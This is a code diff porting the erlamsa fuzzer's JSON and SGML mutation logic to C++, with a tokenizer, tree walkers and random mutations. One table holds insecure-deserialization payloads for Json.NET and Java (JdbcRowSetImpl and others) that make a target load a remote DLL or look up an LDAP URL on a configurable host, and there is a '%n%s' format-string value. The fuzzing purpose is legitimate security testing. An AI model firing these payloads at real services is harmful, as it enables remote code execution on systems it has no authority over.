@@ -1257,8 +1257,383 @@ int uri_mutator(Ctx& c, BList& ll, Muta& m) {                                 //
 }
 
 // sgm / js: staged last; until restated they are not selectable.
-int sgml_mutate(Ctx&, BList&) { throw Unsupported(); }
-int json_mutate(Ctx&, BList&) { throw Unsupported(); }
+// erlamsa_sgml:sgml_mutate/2 :739-757 — only the failure paths that need no tokenizer are restated so far:
+// parse/1 throws incorrect_sgml for binarish blocks (:191-199) and tz(nil, _) throws it when the block
+// holds no '<' at all (:102-104); both leave the block alone with delta -1 and draw nothing.
+int sgml_mutate(Ctx&, BList& ll) {
+  const Bytes& h = ll[0];
+  if (binarish(h)) return -1;
+  if (std::find(h.begin(), h.end(), (uint8_t)'<') == h.end()) return -1;
+  throw Unsupported();
+}
+
+// ===========================================================================
+// erlamsa_json.erl — tokenizer (:83-190), count/walk/select (:280-480), serializer (:235-276),
+// mutations (:535-720).  Terms are modelled as they are in the reference: a list, or a tagged tuple.
+// ===========================================================================
+struct JT;
+typedef std::shared_ptr<const JT> JTP;
+enum JKind { JK_LIST, JK_OBJECT, JK_ARRAY, JK_PAIR, JK_STRING, JK_JUNK, JK_NUMBER, JK_CONST };
+struct JT {
+  JKind k = JK_LIST;
+  std::vector<JTP> items;   // LIST: the elements; OBJECT/ARRAY: items[0] = Els; PAIR: items[0] = key, items[1] = value
+  Bytes s;                  // STRING / JUNK / NUMBER text
+  int cval = 0;             // CONST: 0 true, 1 false, 2 null
+};
+JTP j_list(std::vector<JTP> v) { auto t = std::make_shared<JT>(); t->k = JK_LIST; t->items = std::move(v); return t; }
+JTP j_tag(JKind k, JTP els) { auto t = std::make_shared<JT>(); t->k = k; t->items.push_back(std::move(els)); return t; }
+JTP j_pair(JTP a, JTP b) { auto t = std::make_shared<JT>(); t->k = JK_PAIR; t->items.push_back(std::move(a)); t->items.push_back(std::move(b)); return t; }
+JTP j_text(JKind k, Bytes s) { auto t = std::make_shared<JT>(); t->k = k; t->s = std::move(s); return t; }
+JTP j_const(int v) { auto t = std::make_shared<JT>(); t->k = JK_CONST; t->cval = v; return t; }
+bool j_eq(const JTP& a, const JTP& b) {
+  if (a->k != b->k || a->s != b->s || a->cval != b->cval || a->items.size() != b->items.size()) return false;
+  for (size_t i = 0; i < a->items.size(); i++) if (!j_eq(a->items[i], b->items[i])) return false;
+  return true;
+}
+struct IncorrectJson {};
+
+// tokenize/1 :83-190.  The reference threads a context stack through ws/value/array/elements/object/
+// members/pair/push; `cx.back()` is the head of that list.  Lists are kept in forward order here (the
+// reference prepends and reverses when a container closes).
+std::vector<JTP> json_tokenize(const Bytes& in) {
+  enum T { C_ARRAY, C_ELEMENTS, C_OBJECT, C_MEMBERS, C_PAIR, C_PAIR_DELIM, C_VALUE, C_ARRAY_END, C_OBJECT_END, C_PAIR_END, C_PAIR_START };
+  struct Cx { T t; std::vector<JTP> list; JTP key; };
+  std::vector<Cx> cx; cx.push_back(Cx{C_VALUE, {}, nullptr});
+  std::vector<JTP> acc;
+  const size_t n = in.size(); size_t pos = 0;
+  auto sep = [](uint8_t c) { return c == ' ' || c == '\n' || c == '\r' || c == '\t' || c == ',' || c == ']' || c == '}' || c == ':'; };
+  auto starts = [&](const char* w) { size_t l = strlen(w); return pos + l <= n && memcmp(&in[pos], w, l) == 0; };
+  bool pushing = false; JTP pv;
+  while (true) {
+    if (pushing) {                                                            // push/4 :157-170
+      if (cx.empty()) { acc.push_back(pv); pushing = false; continue; }
+      Cx& h = cx.back();
+      if (h.t == C_ELEMENTS || h.t == C_MEMBERS) { h.list.push_back(pv); pushing = false; continue; }
+      if (h.t == C_PAIR_DELIM) { cx.pop_back(); cx.push_back(Cx{C_PAIR_START, {}, pv}); cx.push_back(Cx{C_PAIR_DELIM, {}, nullptr}); pushing = false; continue; }
+      if (h.t == C_PAIR_END && cx.size() >= 2 && cx[cx.size() - 2].t == C_PAIR_START) {
+        JTP key = cx[cx.size() - 2].key; cx.pop_back(); cx.pop_back(); pv = j_pair(key, pv); continue;
+      }
+      throw IncorrectJson();
+    }
+    while (pos < n && (in[pos] == '\t' || in[pos] == '\n' || in[pos] == '\r' || in[pos] == ' ')) pos++;   // ws/3 :86-102
+    if (pos >= n) return acc;                                                 // ws(<<>>, _, Acc): open containers are dropped
+    if (cx.empty()) throw IncorrectJson();
+    Cx term = cx.back();
+    switch (term.t) {
+      case C_ARRAY:                                                           // array/3 :120-124
+        cx.pop_back(); cx.push_back(Cx{C_ARRAY_END, {}, nullptr});
+        if (in[pos] == ']') { pos++; cx.pop_back(); pv = j_tag(JK_ARRAY, j_list({})); pushing = true; }
+        else { cx.push_back(Cx{C_ELEMENTS, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
+        break;
+      case C_ELEMENTS:                                                        // elements/4 :126-132
+        cx.pop_back();
+        if (in[pos] == ']' && !cx.empty() && cx.back().t == C_ARRAY_END) { pos++; cx.pop_back(); pv = j_tag(JK_ARRAY, j_list(term.list)); pushing = true; }
+        else if (in[pos] == ',') { pos++; cx.push_back(Cx{C_ELEMENTS, term.list, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
+        else throw IncorrectJson();
+        break;
+      case C_OBJECT:                                                          // object/3 :135-139
+        cx.pop_back(); cx.push_back(Cx{C_OBJECT_END, {}, nullptr});
+        if (in[pos] == '}') { pos++; cx.pop_back(); pv = j_tag(JK_OBJECT, j_list({})); pushing = true; }
+        else { cx.push_back(Cx{C_MEMBERS, {}, nullptr}); cx.push_back(Cx{C_PAIR, {}, nullptr}); }
+        break;
+      case C_MEMBERS:                                                         // members/4 :141-147
+        cx.pop_back();
+        if (in[pos] == '}' && !cx.empty() && cx.back().t == C_OBJECT_END) { pos++; cx.pop_back(); pv = j_tag(JK_OBJECT, j_list(term.list)); pushing = true; }
+        else if (in[pos] == ',') { pos++; cx.push_back(Cx{C_MEMBERS, term.list, nullptr}); cx.push_back(Cx{C_PAIR, {}, nullptr}); }
+        else throw IncorrectJson();
+        break;
+      case C_PAIR:                                                            // pair/3 :149-154 with RestContext
+        cx.pop_back();
+        if (in[pos] == ':' && !cx.empty() && cx.back().t == C_PAIR_DELIM) { pos++; cx.pop_back(); cx.push_back(Cx{C_PAIR_END, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
+        else { cx.push_back(Cx{C_PAIR_DELIM, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
+        break;
+      case C_PAIR_DELIM:                                                      // pair/3 with the whole Context (head = pair_delim)
+        if (in[pos] == ':') { pos++; cx.pop_back(); cx.push_back(Cx{C_PAIR_END, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
+        else { cx.push_back(Cx{C_PAIR_DELIM, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
+        break;
+      case C_VALUE:                                                           // value/3 :104-117
+        cx.pop_back();
+        if (in[pos] == '[') { pos++; cx.push_back(Cx{C_ARRAY, {}, nullptr}); }
+        else if (in[pos] == '{') { pos++; cx.push_back(Cx{C_OBJECT, {}, nullptr}); }
+        else if (starts("true")) { pos += 4; pv = j_const(0); pushing = true; }
+        else if (starts("false")) { pos += 5; pv = j_const(1); pushing = true; }
+        else if (starts("null")) { pos += 4; pv = j_const(2); pushing = true; }
+        else if (in[pos] == '"') {                                            // string/4 :174-179
+          size_t q = pos + 1; while (q < n && in[q] != '"') q++;
+          if (q < n) { pv = j_text(JK_STRING, Bytes(in.begin() + pos + 1, in.begin() + q)); pos = q + 1; }
+          else { Bytes v(in.begin() + pos + 1, in.end()); v.push_back('"'); pv = j_text(JK_JUNK, v); pos = n; }
+          pushing = true;
+        } else {                                                              // number/3, number_rest/4 :181-188
+          if (sep(in[pos])) throw IncorrectJson();
+          size_t q = pos; while (q < n && !sep(in[q])) q++;
+          pv = j_text(JK_NUMBER, Bytes(in.begin() + pos, in.begin() + q)); pos = q; pushing = true;
+        }
+        break;
+      default: throw ErlCrash("case_clause in erlamsa_json:ws/3");
+    }
+  }
+}
+
+// fold_ast/1,2 + fold_ast_noarray/2 + fold_list/3 :55-62,235-276
+void json_fold(const JTP& t, Bytes& out);
+void json_fold_joined(const std::vector<JTP>& v, Bytes& out) { for (size_t i = 0; i < v.size(); i++) { if (i) out.push_back(','); json_fold(v[i], out); } }
+void json_fold(const JTP& t, Bytes& out) {
+  switch (t->k) {
+    case JK_LIST:
+      if (t->items.size() == 1) json_fold(t->items[0], out);                  // fold_ast([H], Acc)
+      else if (t->items.size() > 1) { out.push_back('['); json_fold_joined(t->items, out); out.push_back(']'); }   // incorrect AST :262-264
+      break;
+    case JK_PAIR: json_fold(t->items[0], out); out.push_back(':'); json_fold(t->items[1], out); break;
+    case JK_STRING: case JK_JUNK: out.push_back('"'); out.insert(out.end(), t->s.begin(), t->s.end()); out.push_back('"'); break;
+    case JK_CONST: { const char* w = t->cval == 0 ? "true" : (t->cval == 1 ? "false" : "null"); out.insert(out.end(), w, w + strlen(w)); break; }
+    case JK_NUMBER: out.insert(out.end(), t->s.begin(), t->s.end()); break;
+    case JK_OBJECT: case JK_ARRAY: {
+      out.push_back(t->k == JK_OBJECT ? '{' : '[');
+      const JTP& els = t->items[0];                                           // fold_ast_noarray: a list of > 1 is joined without brackets
+      if (els->k == JK_LIST && els->items.size() > 1) json_fold_joined(els->items, out); else json_fold(els, out);
+      out.push_back(t->k == JK_OBJECT ? '}' : ']');
+      break;
+    }
+  }
+}
+
+// walk/4 :286-330.  Counters: CountT (objects + arrays entered), Count (every visited element).
+struct JCnt { long ct = 0, cnt = 0; };
+// count/1 :408-417: walk(all, ...) with a numeric accumulator
+long json_count_walk(const JTP& t, long acc, JCnt& c) {
+  switch (t->k) {
+    case JK_OBJECT: case JK_ARRAY: { c.ct++; c.cnt++; long child = json_count_walk(t->items[0], 0, c); return child + acc + 1; }
+    case JK_PAIR: { c.cnt++; (void)json_count_walk(t->items[0], 0, c); long e2 = json_count_walk(t->items[1], 0, c); return acc + e2 + 1; }
+    case JK_LIST: { for (auto& e : t->items) acc = json_count_walk(e, acc, c); return acc; }
+    default: c.cnt++; return acc + 1;
+  }
+}
+// walk with a list accumulator (rebuild).  fun(elem, tree, CountT, I) appends to `tree` (tree.push_back(X) is
+// the reference's [X | Tree]; the result list is the accumulator reversed, i.e. `tree` read forwards).
+typedef std::function<void(const JTP&, std::vector<JTP>&, long, long)> JWalkFun;
+JTP j_uncons1(std::vector<JTP> v) { if (v.size() == 1) return v[0]; return j_list(std::move(v)); }           // walk_uncons1(walk_reverse(_))
+void json_walk(bool all, const JTP& t, std::vector<JTP>& acc, JCnt& c, const JWalkFun& fun) {
+  switch (t->k) {
+    case JK_OBJECT: case JK_ARRAY: {
+      c.ct++; c.cnt++; long ct = c.ct, cnt = c.cnt;
+      std::vector<JTP> child; json_walk(all, t->items[0], child, c, fun);
+      fun(j_tag(t->k, j_list(std::move(child))), acc, ct, cnt);
+      break;
+    }
+    case JK_PAIR: {
+      long ct = c.ct; c.cnt++; long cnt = c.cnt;
+      if (all) {
+        std::vector<JTP> c1, c2; json_walk(all, t->items[0], c1, c, fun); json_walk(all, t->items[1], c2, c, fun);
+        fun(j_pair(j_uncons1(std::move(c1)), j_uncons1(std::move(c2))), acc, ct, cnt);
+      } else {
+        std::vector<JTP> c2; json_walk(all, t->items[1], c2, c, fun);
+        fun(j_pair(t->items[0], j_uncons1(std::move(c2))), acc, ct, cnt);
+      }
+      break;
+    }
+    case JK_LIST: for (auto& e : t->items) json_walk(all, e, acc, c, fun); break;
+    default: c.cnt++; fun(t, acc, c.ct, c.cnt); break;
+  }
+}
+std::vector<JTP> json_walk_top(bool all, const std::vector<JTP>& ast, const JWalkFun& fun) {
+  std::vector<JTP> acc; JCnt c; for (auto& e : ast) json_walk(all, e, acc, c, fun); return acc;
+}
+// select/3 :352-398: first element for which pred(elem, CountT, I) holds.  (Once something is found the
+// reference stops descending in places, which only shifts counters that no longer matter.)
+typedef std::function<bool(const JTP&, long, long)> JSelFun;
+struct JSel { JTP elem; long ct = 0, cnt = 0; bool found = false; };
+void json_select(bool all, const JTP& t, JCnt& c, const JSelFun& pred, JSel& r) {
+  if (r.found) return;
+  switch (t->k) {
+    case JK_OBJECT: case JK_ARRAY:
+      c.ct++; c.cnt++;
+      if (pred(t, c.ct, c.cnt)) { r.elem = t; r.ct = c.ct; r.cnt = c.cnt; r.found = true; return; }
+      json_select(all, t->items[0], c, pred, r);
+      break;
+    case JK_PAIR:
+      if (pred(t, c.ct, c.cnt + 1)) { c.cnt++; r.elem = t; r.ct = c.ct; r.cnt = c.cnt; r.found = true; return; }
+      c.cnt++;
+      if (all) { json_select(all, t->items[0], c, pred, r); if (r.found) return; }
+      json_select(all, t->items[1], c, pred, r);
+      break;
+    case JK_LIST: for (auto& e : t->items) { json_select(all, e, c, pred, r); if (r.found) return; } break;
+    default:
+      c.cnt++;
+      if (pred(t, c.ct, c.cnt)) { r.elem = t; r.ct = c.ct; r.cnt = c.cnt; r.found = true; }
+      break;
+  }
+}
+JSel json_select_top(bool all, const std::vector<JTP>& ast, const JSelFun& pred) { JSel r; JCnt c; for (auto& e : ast) { json_select(all, e, c, pred, r); if (r.found) break; } return r; }
+JTP json_select_elem_values(const std::vector<JTP>& ast, long n) {           // select_elem(values, Ast, N) :419-427 + the {Elem, R} match
+  JSel r = json_select_top(false, ast, [&](const JTP&, long, long i) { return i == n; });
+  if (!r.found) throw ErlCrash("badmatch: select_elem returned false");
+  return r.elem;
+}
+
+// replace_elem/3, repeat_elem/3, insert_elem/3 :442-470
+std::vector<JTP> json_replace_elem(const std::vector<JTP>& ast, long r, const JTP& el) {
+  return json_walk_top(true, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(i == r ? el : e); });
+}
+std::vector<JTP> json_repeat_elem(const std::vector<JTP>& ast, long r, long times) {
+  return json_walk_top(false, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) {
+    tree.push_back(e);
+    if (i == r) for (long k = 0; k < times; k++) tree.push_back(e);           // repeat_listhd: N < 1 -> L
+  });
+}
+// pump_path/3 :535-548
+JTP json_pump_path(JTP start, long end, int n) {
+  for (; n > 0; n--) {
+    std::vector<JTP> one{start};
+    std::vector<JTP> res = json_walk_top(true, one, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(i == end ? start : e); });
+    if (res.empty()) throw ErlCrash("badarg: hd([])");
+    start = res[0]; end = end * 2 - 1;
+  }
+  return start;
+}
+const char* const JSON_UNSERIALIZE[6] = {                                     // json_unserialize_bugs/0 :612-621 (payload table; ~s = SSRF URI)
+  "{\"__type\":\"System.Windows.Application, PresentationFramework,Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"Resources\":{\"__type\":\"System.Windows.ResourceDictionary,PresentationFramework, Version=4.0.0.0, Culture=neutral,PublicKeyToken=31bf3856ad364e35\",\"Source\":\"http~sJsonDotNet/Xamlpayload\"}}",
+  "{\"$type\":\"System.Configuration.Install.AssemblyInstaller,System.Configuration.Install, Version=4.0.0.0, Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}",
+  "{\"$type\":\"System.Windows.Forms.BindingSource, System.Windows.Forms,Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\",\"DataMember\":\"HelpText\",\"dataSource\":{\"$type\":\"System.Configuration.Install.AssemblyInstalle r, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}}",
+  "{\"@class\":\"org.hibernate.jmx.StatisticsService\",\"sessionFactoryJNDIName\":\"ldap~suid=somename,ou=someou,dc=somedc\"}",
+  "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\":\"ldap:~suid=somename,ou=someou,dc=somed c\", \"autoCommit\":true}",
+  "{\"@class\":\" com.atomikos.icatch.jta.RemoteClientUserTransaction\", \"name_\":\"ldap~suid=somename,ou=someou,dc=somedc\", \"providerUrl_\":\"ldap~s\"}"};
+
+void mux_fuzzers(Ctx& c, std::vector<Muta>& fs, BList& ll);
+// inner_mutations(json) :1343-1357: the mutation table filtered to these names, prepended while folding
+// over the table (so reverse table order), then mutators_mutator/1
+std::vector<Muta> json_inner_muta(Ctx& c) {
+  static const int names[] = {M_AB, M_AD, M_B64, M_NUM, M_SD, M_SP, M_SR, M_URI, M_SGM};
+  std::vector<Muta> table = mutations_table(c.rnd), sel;
+  for (auto& m : table) for (int nm : names) if (m.name == nm) { sel.insert(sel.begin(), m); break; }
+  return mutators_mutator(c.rnd, sel);
+}
+// list_to_integer/1 on the number text: optional sign, then only digits
+bool json_list_to_integer(const Bytes& s, Big* out) {
+  size_t i = 0; bool neg = false;
+  if (i < s.size() && (s[i] == '+' || s[i] == '-')) { neg = s[i] == '-'; i++; }
+  if (i >= s.size()) return false;
+  Big n;
+  for (; i < s.size(); i++) { if (s[i] < '0' || s[i] > '9') return false; n.mul10_add(s[i] - '0'); }
+  n.trim(); if (neg) n = -n;
+  *out = n; return true;
+}
+
+// json_mutation/2,3 :647-712.  Returns the result (token list, or a binary for the unserialize payload) and D.
+struct JMutRes { std::vector<JTP> ast; bool is_bin = false; Bytes bin; int d = -1; bool failed = false; };
+JMutRes json_mutation(Ctx& c, const std::vector<JTP>& ast, long n, long nt, long nv) {
+  JMutRes res; res.ast = ast;
+  uint64_t r;
+  if (nt == 0 && n < 2) {                                                     // :647-651 "prevent too much JSONish on non-JSON data"
+    uint64_t e = c.rnd.erand(7);
+    if (!(e == 4 && n == 1)) { res.failed = true; res.d = -1; return res; }
+    r = c.rnd.rand(8);
+  } else r = c.rnd.rand(21);
+  switch (r) {
+    case 0: {                                                                 // json_swap :577-590
+      long r1 = (long)c.rnd.erand(nv), r2 = (long)c.rnd.erand(nv);
+      JTP e1 = json_select_elem_values(ast, r1), e2 = json_select_elem_values(ast, r2);
+      res.ast = json_walk_top(false, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(i == r1 ? e2 : (i == r2 ? e1 : e)); });
+      res.d = 1; return res;
+    }
+    case 1: { long rr = (long)c.rnd.erand(nv); res.ast = json_repeat_elem(ast, rr, 1); res.d = 1; return res; }                 // json_dup :569-571
+    case 2: {                                                                 // json_pump :551-567
+      if (nt == 0) { res.d = -2; return res; }                                // json_pump(Ast, 0) -> Ast
+      long rr = (long)c.rnd.erand(nt);
+      JSel st = json_select_top(true, ast, [&](const JTP& e, long ct, long) { return (e->k == JK_OBJECT || e->k == JK_ARRAY) && ct == rr; });
+      if (!st.found) throw ErlCrash("badmatch: select_tag returned false");
+      JCnt cc; std::vector<JTP> one{st.elem}; (void)json_count_walk(j_list(one), 0, cc);
+      long e = (long)c.rnd.erand(cc.cnt - 1) + 1;                             // not the tag itself
+      JTP pumped = json_pump_path(st.elem, e, 2);
+      res.ast = json_replace_elem(ast, st.cnt, pumped);
+      res.d = -2; return res;
+    }
+    case 3: { long rr = (long)c.rnd.erand(nv); long times = (long)c.rnd.erand(100); res.ast = json_repeat_elem(ast, rr, times); res.d = 1; return res; }   // json_repeat :573-575
+    case 4: {                                                                 // json_insert :592-596
+      long r1 = (long)c.rnd.erand(nv), r2 = (long)c.rnd.erand(nv);
+      JTP ne = json_select_elem_values(ast, r1);
+      res.ast = json_walk_top(false, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(e); if (i == r2) tree.push_back(ne); });
+      res.d = 1; return res;
+    }
+    case 5: {                                                                 // make_json_unserialize :624-627
+      std::string uri = "://" + std::string(c.cfg->ssrf_host) + ":" + std::to_string(c.cfg->ssrf_port) + "/";
+      const char* p = JSON_UNSERIALIZE[c.rnd.rand_elem_idx(6)];
+      res.is_bin = true;
+      for (const char* q = p; *q; q++) { if (q[0] == '~' && q[1] == 's') { res.bin.insert(res.bin.end(), uri.begin(), uri.end()); q++; } else res.bin.push_back((uint8_t)*q); }
+      res.d = -2; return res;
+    }
+    default: break;
+  }
+  // inner text / basic type mutations :668-710 (walk2acc; the meta accumulators carry no draws)
+  std::vector<Muta> muta = json_inner_muta(c);
+  auto mutate_text = [&](const Bytes& str, double prob) -> Bytes {            // mutate_innertext_prob/4 :629-636
+    double rnd = c.rnd.rand_float();
+    if (rnd > prob) return str;
+    std::vector<Muta> m = muta;                                               // the updated mutator is dropped (_NewMuta)
+    BList one{str};
+    mux_fuzzers(c, m, one);
+    if (one.empty()) throw ErlCrash("badarg: hd([])");
+    return one[0];
+  };
+  const double N = (double)n;
+  std::function<void(const JTP&, std::vector<JTP>&)> w2 = [&](const JTP& t, std::vector<JTP>& acc) {
+    switch (t->k) {
+      case JK_OBJECT: case JK_ARRAY: { std::vector<JTP> ch; w2(t->items[0], ch); acc.push_back(j_tag(t->k, j_list(std::move(ch)))); break; }
+      case JK_PAIR: {
+        std::vector<JTP> c1, c2;
+        if (t->items[0]->k == JK_STRING) c1.push_back(j_text(JK_STRING, mutate_text(t->items[0]->s, 0.6 / N)));   // {key, String}
+        else w2(t->items[0], c1);
+        w2(t->items[1], c2);
+        acc.push_back(j_pair(j_uncons1(std::move(c1)), j_uncons1(std::move(c2))));
+        break;
+      }
+      case JK_LIST: for (auto& e : t->items) w2(e, acc); break;
+      case JK_STRING: acc.push_back(j_text(JK_STRING, mutate_text(t->s, 3.0 / N))); break;
+      case JK_CONST: {
+        double rnd = c.rnd.rand_float();
+        if (t->cval == 2) {                                                   // mutate_null/2 :638-640
+          if (rnd >= 3.0 / N) { acc.push_back(t); break; }
+          switch (c.rnd.rand_elem_idx(7)) {
+            case 0: acc.push_back(j_text(JK_NUMBER, Bytes{'-', '1'})); break;
+            case 1: { const char* z = "1000000000"; acc.push_back(j_text(JK_NUMBER, Bytes(z, z + 10))); break; }
+            case 2: acc.push_back(j_const(0)); break;
+            case 3: acc.push_back(j_tag(JK_ARRAY, j_list({}))); break;
+            case 4: { const char* z = "%n%s"; acc.push_back(j_text(JK_STRING, Bytes(z, z + 4))); break; }
+            case 5: acc.push_back(j_text(JK_NUMBER, Bytes{'0'})); break;
+            default: { const char* z = "AAAAAAAAAAAA"; acc.push_back(j_text(JK_STRING, Bytes(z, z + 12))); break; }
+          }
+        } else acc.push_back(rnd >= 3.0 / N ? t : j_const(t->cval == 0 ? 1 : 0));   // basic_type_mutation(Boolean, Prob) :1212-1221
+        break;
+      }
+      case JK_NUMBER: {
+        Big v;
+        if (!json_list_to_integer(t->s, &v)) { acc.push_back(t); break; }     // error:badarg -> unchanged, no draw
+        double rnd = c.rnd.rand_float();
+        if (rnd >= 3.0 / N) { acc.push_back(t); break; }
+        Big nv2 = mutate_num(c, v);
+        if (nv2.neg == v.neg && Big::cmp_mag(nv2.mag, v.mag) == 0) { acc.push_back(t); break; }
+        std::string d = nv2.to_dec(); acc.push_back(j_text(JK_NUMBER, Bytes(d.begin(), d.end())));
+        break;
+      }
+      default: acc.push_back(t); break;
+    }
+  };
+  std::vector<JTP> out; for (auto& e : ast) w2(e, out);
+  res.ast = out; res.d = 1; return res;
+}
+
+int json_mutate(Ctx& c, BList& ll) {                                          // json_mutate/2 :714-737
+  const Bytes h = ll[0];
+  std::vector<JTP> tokens;
+  try { tokens = json_tokenize(h); } catch (IncorrectJson&) { return -1; }
+  JCnt cc; long nv = json_count_walk(j_list(tokens), 0, cc);
+  JMutRes r = json_mutation(c, tokens, cc.cnt, cc.ct, nv);
+  Bytes nb;
+  if (r.is_bin) nb = r.bin; else json_fold(j_list(r.ast), nb);
+  if (nb == h) return -1;
+  int d = r.d + (int)(nb.size() / (AVG_BLOCK_SIZE * 10));
+  ll[0] = nb;
+  return d;
+}
 
 // ===========================================================================
 // erlamsa_patterns.erl
@@ -1595,7 +1970,7 @@ int32_t eo_run_mutator(const char* name, int64_t a, int64_t b, int64_t c3, const
   Muta m; m.score = 10; m.pri = MUTA_TABLE[id].pri; m.name = id; m.fn = id; m.mask_fun = id == M_SRND ? 3 : 0;
   BList ll{Bytes(in, in + len)};
   int32_t d;
-  try { d = run_muta_fn(c, ll, m); } catch (ErlCrash&) { return INT32_MIN; } catch (Unsupported&) { return INT32_MIN + 1; } catch (Overflow&) { return INT32_MIN + 2; }
+  try { d = run_muta_fn(c, ll, m); } catch (ErlCrash& e) { g_err = e.what(); return INT32_MIN; } catch (Unsupported&) { return INT32_MIN + 1; } catch (Overflow&) { return INT32_MIN + 2; }
   Bytes o; for (auto& x : ll) o.insert(o.end(), x.begin(), x.end());
   *out = (uint8_t*)malloc(o.size() ? o.size() : 1); if (!o.empty()) memcpy(*out, o.data(), o.size());
   *out_len = o.size(); *nblocks = (uint32_t)ll.size();
